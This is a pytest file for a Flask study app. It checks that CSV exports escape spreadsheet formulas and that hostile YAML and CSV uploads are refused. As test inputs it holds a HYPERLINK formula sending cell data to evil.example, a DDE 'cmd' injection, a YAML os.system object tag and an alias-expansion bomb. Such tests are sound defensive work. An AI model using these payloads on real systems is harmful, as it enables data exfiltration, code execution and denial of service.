"""CSV that leaves the desk and the app, and files that come in: nothing in them runs, nothing in them is huge."""

import csv
import io
import zipfile

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from challenges.table import COLUMNS, read_csv, write_csv
from challenges.yaml_text import UnreadableYAML, load_document
from server.clock import SetClock
from server.db import Database
from server.desk.challenge_views import LARGEST_FILE
from server.people.models import Participant
from server.rights.gathering import pack
from server.sheets import FORMULA, make_plain
from tests.cast import NOW, Cast
from tests.factories import make_challenge
from tests.server.desk.desk import Desk, sign_in

EVIL = '=HYPERLINK("https://evil.example?x="&A1,"click")'


@pytest.mark.parametrize("first", FORMULA)
def test_a_formula_is_made_plain(first: str) -> None:
    assert make_plain(f"{first}1+1") == f"'{first}1+1"
    assert make_plain("1+1") == "1+1"
    assert make_plain(-5) == -5


@pytest.mark.parametrize("first", FORMULA)
def test_who_is_called_like_a_formula_does_nothing_to_who_opens_the_challenges(
    app: Flask, database: Database, cast: Cast, first: str
) -> None:
    """The author's name is the only text of the library that no rule of authoring has seen."""
    evil = f"{first}cmd|' /C calc'!A0"
    with database.transaction() as session:
        make_challenge(session, content={"author": evil, "reviewer": evil})
    text = sign_in(app, database, administrator=True).get("/desk/challenges/export.csv").get_data(as_text=True)
    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert (row["author"], row["reviewer"]) == (f"'{evil}", f"'{evil}")
    assert not [name for name, cell in row.items() if cell.startswith(FORMULA)]


def test_a_file_with_formulas_is_refused_with_every_place(database: Database) -> None:
    fine = write_csv([])
    names = fine.strip("\ufeff\r\n").split(",")
    row = ["x"] * len(names)
    for name in ("title_nl", "title_en", "body_nl", "body_en"):
        row[names.index(name)] = EVIL
    out = io.StringIO()
    csv.writer(out).writerows([names, row])
    found = {one.problem.field for one in read_csv(out.getvalue()).problems if "formula" in str(one.problem)}
    assert {"title_nl", "title_en", "body_nl", "body_en"} <= found


def test_what_one_takes_home_has_no_formula_in_its_tables(database: Database, cast: Cast) -> None:
    noor: Participant = cast.noor.participant
    data = {"consent_record": [{"id": 1, "text": EVIL, "number": -3}], "response": [], "beep": []}
    with zipfile.ZipFile(io.BytesIO(pack(noor, data, now=NOW))) as archive:
        (row,) = csv.DictReader(io.StringIO(archive.read("consent.csv").decode("utf-8-sig")))
    assert row == {"id": "1", "text": f"'{EVIL}", "number": "-3"}


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
ATTACKS = {
    "aliases": BOMB,
    "a merge of aliases": "base: &base {a: 1}\nother:\n  <<: *base\n",
    "an object": "challenges: !!python/object/apply:os.system ['touch /tmp/kiem-was-here']\n",
    "a name of python": "challenges: !!python/name:os.system\n",
    "a tag of one's own": "challenges: !evil {a: 1}\n",
    "depth": "[" * 3000 + "]" * 3000,
    "depth by dashes": "- " * 3000 + "x",
    "a huge number": "challenges: " + "9" * 20_000,
    "a number of base sixty": "challenges: " + ":".join(["59"] * 4000),
    "two documents": "---\na: 1\n---\nb: 2\n",
    "a directive": "%YAML 9.9\n---\na: 1\n",
    "control characters": "a: \x01\x02\n",
    "many values": "a:\n" * 12_000,
    "a long file": "# comment\n" * 110_000,
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_yaml_file_is_a_mistake_and_no_more(
    app: Flask, database: Database, cast: Cast, clock: SetClock, name: str
) -> None:
    desk = sign_in(app, database, roles={cast.study: "coordinator"})
    answer = _upload(desk, "challenges.yaml", ATTACKS[name].encode())
    assert answer.status_code == 422
    assert len(answer.data) < 400_000


@pytest.mark.parametrize(
    "name",
    [
        "aliases",
        "a merge of aliases",
        "an object",
        "a name of python",
        "a tag of one's own",
        "depth",
        "depth by dashes",
        "many values",
        "a long file",
    ],
)
def test_the_reader_refuses_what_would_grow_or_act(name: str) -> None:
    with pytest.raises(UnreadableYAML):
        load_document(ATTACKS[name])


@pytest.mark.parametrize(
    ("name", "content", "statuses"),
    [
        ("a zip", b"PK\x03\x04" + b"\0" * 5000, {422}),
        ("gzip", b"\x1f\x8b\x08" + b"\0" * 5000, {422}),
        ("binary", bytes(range(256)) * 200, {422}),
        ("one very long line", b"title_nl," * 40_000, {422}),
        ("many rows", b"title_nl,title_en\n" + b"x,y\n" * 50_000, {422}),
        ("a cell beyond the reader's limit", b"title_nl,title_en\n" + b'"' + b"x" * 200_000 + b'",y\n', {422}),
        ("a quote that never ends", b'title_nl,title_en\n"' + b"x\n" * 50_000, {422}),
        ("a header that never ends", b'a,"' + b'""' * 100_000, {422}),
        ("a long cell under right headers", ",".join(COLUMNS).encode() + b'\n"' + b"x" * 200_000, {422}),
        ("empty", b"", {422}),
        ("too large", b"x" * (LARGEST_FILE + 1), {413}),
    ],
)
def test_a_hostile_table_is_a_mistake_and_no_more(
    app: Flask, database: Database, cast: Cast, name: str, content: bytes, statuses: set[int]
) -> None:
    desk = sign_in(app, database, roles={cast.study: "coordinator"})
    answer = _upload(desk, "challenges.csv", content)
    assert answer.status_code in statuses, name
    assert len(answer.data) < 1_000_000


def _upload(desk: Desk, filename: str, content: bytes) -> TestResponse:
    """As a browser does; the test client's own encoder would leave temporary files open."""
    token = desk.token()
    parts = [
        b'--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n' + token.encode(),
        b'\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="' + filename.encode() + b'"\r\n\r\n',
        content,
        b"\r\n--x--\r\n",
    ]
    return desk.client.post(
        "/desk/challenges/import",
        base_url=desk.base,
        headers={"Accept-Language": "en"},
        data=b"".join(parts),
        content_type="multipart/form-data; boundary=x",
        buffered=True,
    )
